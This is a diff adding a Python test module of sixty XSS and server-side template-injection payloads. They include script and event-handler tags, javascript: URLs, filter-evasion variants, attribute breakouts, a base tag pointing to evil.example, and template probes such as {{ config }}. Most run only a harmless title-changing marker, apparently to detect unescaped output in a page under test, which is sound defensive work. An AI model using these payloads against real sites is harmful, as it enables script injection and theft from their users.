@@ -1,0 +1,73 @@
+"""Texts that would run or plant something in a page that is careless anywhere."""
+
+MARK = "xss"
+"""What a payload that runs would write into the page's title, or plant as an element's id."""
+_RUN = f"document.title='{MARK}'"
+HTML = (
+    f"<script>{_RUN}</script>",
+    f"</script><script>{_RUN}</script>",
+    f"<ScRiPt>{_RUN}</sCrIpT>",
+    f"<script/src=data:,{_RUN}></script>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src='x'/onerror={_RUN}//>",
+    f"<img src=x:x onerror=alert({_RUN})>",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<body onload={_RUN}>",
+    f"<iframe src=javascript:{_RUN}>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<object data=javascript:{_RUN}></object>",
+    f"<embed src=javascript:{_RUN}>",
+    f"<a href=javascript:{_RUN} id={MARK}>x</a>",
+    f"<a href='java\tscript:{_RUN}' id={MARK}>x</a>",
+    f"<form action=javascript:{_RUN} id={MARK}><button>go</button></form>",
+    f"<button formaction=javascript:{_RUN} id={MARK}>x</button>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}></select>",
+    f"<textarea autofocus onfocus={_RUN}></textarea>",
+    f"</textarea><script>{_RUN}</script>",
+    f"</textarea><img src=x onerror={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    f"<video><source onerror={_RUN}>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<marquee onstart={_RUN}>",
+    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}>",
+    f"<style>@import 'javascript:{_RUN}';</style>",
+    "<style>body{display:none}</style>",
+    f"<link rel=stylesheet href=javascript:{_RUN}>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    "<base href=https://evil.example/>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<!--><script>{_RUN}</script-->",
+    f"<![CDATA[<script>{_RUN}</script>]]>",
+    f"<xmp></xmp><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"<div id={MARK}>planted</div>",
+    f"<p style='background:url(javascript:{_RUN})'>x</p>",
+)
+ATTRIBUTES = (
+    f'" onmouseover="{_RUN}" x="',
+    f"' onmouseover='{_RUN}' x='",
+    f'"><script>{_RUN}</script>',
+    f"'><script>{_RUN}</script>",
+    f'"><img src=x onerror={_RUN}>',
+    f'" autofocus onfocus="{_RUN}',
+    f'" style="position:fixed;inset:0" id="{MARK}',
+    "`-alert(1)-`",
+    f"javascript:{_RUN}",
+    f"\u2028{_RUN}\u2029",
+)
+TEMPLATES = (
+    "{{ 7 * 191 }}",
+    "{% raw %}{{ config }}{% endraw %}",
+    "{{ ''.__class__.__mro__ }}",
+    "${7*191}",
+    "#{7*191}",
+    "<%= 7*191 %>",
+    "[[7*191]]",
+)
+PAYLOADS = (*HTML, *ATTRIBUTES, *TEMPLATES)
+"""Sixty in all."""
